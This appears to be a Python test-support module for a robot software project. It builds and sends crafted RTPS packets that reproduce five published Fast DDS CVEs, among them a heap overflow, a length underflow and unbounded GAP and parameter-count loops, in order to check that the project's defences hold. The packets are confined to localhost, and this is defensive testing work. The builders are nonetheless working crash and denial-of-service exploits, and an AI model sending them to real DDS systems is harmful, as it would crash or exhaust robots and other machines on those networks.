"""The published Fast DDS flaws as an attacker on the robot's network would send them (issue 46),
shared by integration.fastdds_flaws, make test-image, make test-service, make test-fastdds3 and make
test-fastdds214.

Each is written from upstream's account of its fix (the fix commit's message and its regression
test in eProsima/Fast-DDS: which submessage, which field, which values), not from its code:

  CVE-2025-62799  "Fix CVE-2025-62799": a DATA_FRAG whose last fragment starts at an offset that is
                  not a multiple of 4; Fast DDS keeps the index of the next missing fragment at the
                  4-aligned start of each fragment, so for the last one it writes up to 4 bytes past
                  the sample's buffer (fixed by reserving room for that index). Upstream's test:
                  fragment 2 of a 50,003-byte sample in fragments of 50,002.
  CVE-2025-65865  "Fix several CVEs" (May 2026): proc_Submsg_DataFrag subtracts the DATA_FRAG's
                  header size from its octetsToNextHeader unchecked; upstream's test sends 28 where
                  the header alone is 32, and the payload length wraps to about 4 GB.
  CVE-2026-22590  "Fix CVE-2026-22590": CacheChange::add_fragments did not check the bytes a
                  submessage holds against the length of the last fragment it claims; upstream's test
                  claims fragments 1 to 8 of 65,504 bytes and carries 4.
  CVE-2025-64438  "Fix CVE-2025-64438": a GAP's range (gapStart to gapList.base) is walked one
                  sequence number at a time into a set of the writer proxy's, unbounded; upstream's
                  test: from 10 to 2^32 - 1.
  CVE-2026-49861  "Fix several deserialization CVEs" (June 2026): element counts read from a
                  DATA(w)/DATA(r) parameter drive push_back loops, bounded by nothing:
                  PID_DATA_REPRESENTATION's count and PID_DATASHARING's number of domains.

Every flaw but CVE-2026-49861's in the reader of a writer Fast DDS has matched, so each attack first
announces a made-up participant (one SPDP DATA(p), tests/support/dds_attacks.py) and then speaks as
that participant's built-in writers. Only this host is ever a target: unicast to 127.0.0.1, and the
discovery multicast group with a TTL of 0 (delivered to this host's members, never sent on a link).
"""

import random
import socket
import struct
import time

from dds_attacks import VENDOR_EPROSIMA, domain_ports, participant_announcement

# Built-in entity ids (RTPS 2.x, 9.3.1.2).
SPDP_WRITER = bytes.fromhex("000100c2")
SPDP_READER = bytes.fromhex("000100c7")
SEDP_PUBLICATIONS_WRITER = bytes.fromhex("000003c2")
SEDP_PUBLICATIONS_READER = bytes.fromhex("000003c7")

DATA_FRAG = 0x16
GAP = 0x08
# DATA_FRAG after its 4-byte submessage header: extraFlags, octetsToInlineQos, readerId, writerId,
# writerSN, fragmentStartingNum, fragmentsInSubmessage, fragmentSize, sampleSize (RTPS 2.x, 9.4.5.4).
DATA_FRAG_HEADER = 32


def _message(guid_prefix, *submessages):
    return b"RTPS" + b"\x02\x03" + VENDOR_EPROSIMA + guid_prefix + b"".join(submessages)


def _sequence_number(value):
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


def data_frag(guid_prefix, sn, first_fragment, fragments, fragment_size, sample_size, data, length=None,
              reader=SPDP_READER, writer=SPDP_WRITER):
    """One RTPS message with one little-endian DATA_FRAG; `length` (octetsToNextHeader) as given, else
    the true one."""
    body = struct.pack("<HH", 0, 28) + reader + writer + _sequence_number(sn) + \
        struct.pack("<IHHI", first_fragment, fragments, fragment_size, sample_size) + data
    header = bytes([DATA_FRAG, 0x01]) + struct.pack("<H", len(body) if length is None else length)
    return _message(guid_prefix, header + body)


def gap(guid_prefix, gap_start, list_base, reader=SEDP_PUBLICATIONS_READER, writer=SEDP_PUBLICATIONS_WRITER):
    """One RTPS message with one little-endian GAP: gapStart, then a gapList with `list_base` and no bits."""
    body = reader + writer + _sequence_number(gap_start) + _sequence_number(list_base) + struct.pack("<I", 0)
    return _message(guid_prefix, bytes([GAP, 0x01]) + struct.pack("<H", len(body)) + body)


def _parameter(pid, value):
    value += bytes(-len(value) % 4)
    return struct.pack("<HH", pid, len(value)) + value


def _string(text):
    raw = text.encode() + b"\x00"
    return struct.pack("<I", len(raw)) + raw


def publication(guid_prefix, sn, count_parameter):
    """A DATA(w): the made-up participant's writer of robot_state, whose parameter list carries
    `count_parameter` (PID and value) before its GUID, topic and type."""
    payload = b"\x00\x03\x00\x00"  # PL_CDR_LE
    payload += _parameter(*count_parameter)
    payload += _parameter(0x005A, guid_prefix + bytes.fromhex("00000102"))   # PID_ENDPOINT_GUID
    payload += _parameter(0x0050, guid_prefix + bytes.fromhex("000001c1"))   # PID_PARTICIPANT_GUID
    payload += _parameter(0x0005, _string("robot_state"))                      # PID_TOPIC_NAME
    payload += _parameter(0x0007, _string("rsg::RobotState"))                  # PID_TYPE_NAME
    payload += struct.pack("<HH", 0x0001, 0)                                   # PID_SENTINEL
    body = struct.pack("<HH", 0, 16) + SEDP_PUBLICATIONS_READER + SEDP_PUBLICATIONS_WRITER + \
        _sequence_number(sn) + payload
    return _message(guid_prefix, bytes([0x15, 0x05]) + struct.pack("<H", len(body)) + body)


# Each builder: (guid prefix of the made-up participant, rng) -> the datagrams after its announcement.

def cve_2025_62799(prefix, _rng):
    """Fragment 2 (the last, 1 byte) of samples of F + 1 bytes in fragments of F: the index of the
    last fragment goes at F rounded up to 4, past the sample. Fast DDS 2.9 keeps a payload 12 bytes
    after the start of its heap block (TopicPayloadPool's NodeInfo); for F = 9, 10 or 11 (mod 16)
    malloc leaves no slack after F + 1 + 12 bytes, and the index lands on the size of the heap chunk
    that follows. Three of them, each larger than the one before, so that the buffer is reallocated
    over the damage."""
    return [data_frag(prefix, sn, 2, 1, size, size + 1, b"\xaa")
            for sn, size in ((2, 50009), (3, 60010), (4, 64011))]


def cve_2025_65865(prefix, _rng):
    """DATA_FRAGs whose octetsToNextHeader (28) is smaller than their own header (32), so that the
    payload length Fast DDS computes wraps to 2^32 - 4: each claims fragments 1 to 1,000 of 65,000
    bytes (not the last: the sample is 1,001 fragments long) and holds none. Three of them."""
    return [data_frag(prefix, sn, 1, 1000, 65000, 65000 * 1001, b"", length=DATA_FRAG_HEADER - 4)
            for sn in (2, 3, 4)]


def cve_2026_22590(prefix, _rng):
    """Fragments 1 to 1,000 of 65,000 bytes (the whole sample, the last one included) with 4 bytes of
    data: the last fragment's length is taken from the sample, not from what arrived."""
    return [data_frag(prefix, sn, 1, 1000, 65000, 65000 * 1000, b"\xa0\xa1\xa2\xa3") for sn in (2, 3, 4)]


def cve_2025_64438(prefix, _rng):
    """A GAP from the made-up participant's publications writer to the built-in publications reader,
    from sequence number 10 (upstream's; 1 to 9 never arrived, so none of these is the next one
    expected and each is kept) to 10 + 2^32: 2^32 sequence numbers declared irrelevant, one by one."""
    return [gap(prefix, 10, 10 + (1 << 32))]


def cve_2026_49861(prefix, _rng):
    """Two DATA(w): one whose PID_DATA_REPRESENTATION says 0xFFFFFFFF representations and holds one,
    one (the next sequence number) whose PID_DATASHARING says 0xFFFFFFFF domains and holds one."""
    representation = (0x0073, struct.pack("<Ih", 0xFFFFFFFF, 1))
    data_sharing = (0x8006, struct.pack("<IQ", 0xFFFFFFFF, 1))
    return [publication(prefix, 1, representation), publication(prefix, 2, data_sharing)]


class Flaw:
    def __init__(self, cve, what, kind, build):
        self.cve, self.what, self.kind, self.build = cve, what, kind, build

    def datagrams(self, domain, rng, listen_port):
        """The made-up participant's announcement (metatraffic on 127.0.0.1:`listen_port`, where nothing
        need listen), then the attack's datagrams."""
        prefix = rng.randbytes(12)
        return [participant_announcement(domain, prefix, listen_port)] + self.build(prefix, rng)


# kind: what the flaw did to Fast DDS 2.9.1 as Debian 12 builds it, without rsg's screen (issue 46):
# "crash" (a signal), "spin" (a thread at 100 % and memory growing), "growth" (memory growing).
FLAWS = [
    Flaw("CVE-2025-62799", "DATA_FRAG whose last fragment runs past the sample (heap overflow)", "crash",
         cve_2025_62799),
    Flaw("CVE-2025-65865", "DATA_FRAG octetsToNextHeader smaller than its header (underflow), 1000 fragments", "crash",
         cve_2025_65865),
    Flaw("CVE-2026-22590", "DATA_FRAG fragments 1..1000 with 4 bytes of data", "crash", cve_2026_22590),
    Flaw("CVE-2025-64438", "GAP over 2^32 sequence numbers to the SEDP publications reader", "spin",
         cve_2025_64438),
    Flaw("CVE-2026-49861", "DATA(w) with a DATA_REPRESENTATION / DATASHARING count of 0xFFFFFFFF", "growth",
         cve_2026_49861),
]

WAYS = ("unicast", "multicast")


def discovery_group(domain):
    """The SPDP multicast locator of `domain` (RTPS 2.x, 9.6.1.4.1: 239.255.0.1, 7400 + 250 × domain)."""
    return ("239.255.0.1", 7400 + 250 * domain)


def send(datagrams, way, domain, ports=None, pause_s=0.05):
    """The first datagram (the announcement), a pause for the victims to take the made-up participant
    in, then the others: `unicast` to each of `ports` (default: every port of the domain bound on this
    host) on 127.0.0.1, `multicast` to the domain's discovery group, looped back to this host's members
    and never sent on a link (TTL 0). At most about 20,000 datagrams a second."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
        if way == "unicast":
            targets = [("127.0.0.1", port) for port in (ports if ports is not None else domain_ports(domain))]
        else:
            targets = [discovery_group(domain)]
        for index, datagram in enumerate(datagrams):
            for target in targets:
                sender.sendto(datagram, target)
            if index == 0:
                time.sleep(pause_s)
            elif index % 200 == 0:
                time.sleep(0.01)


def attack(flaw, way, domain, ports=None, seed=46):
    """Sends `flaw` one `way` as a made-up participant of its own; returns the number of datagrams."""
    rng = random.Random(f"{seed}/{flaw.cve}/{way}")
    datagrams = flaw.datagrams(domain, rng, 40000 + rng.randrange(1000) * 2)
    send(datagrams, way, domain, ports)
    return len(datagrams)


def attack_every(domain, alive, pause_s=0.2):
    """Every flaw, each way, each as a made-up participant of its own; after each, `pause_s` for a
    crash to come, then `alive(what)`, which raises when the victim died. Returns the datagrams sent."""
    sent = 0
    for flaw in FLAWS:
        for way in WAYS:
            sent += attack(flaw, way, domain)
            time.sleep(pause_s)
            alive(f"{flaw.cve} sent {way}")
    return sent
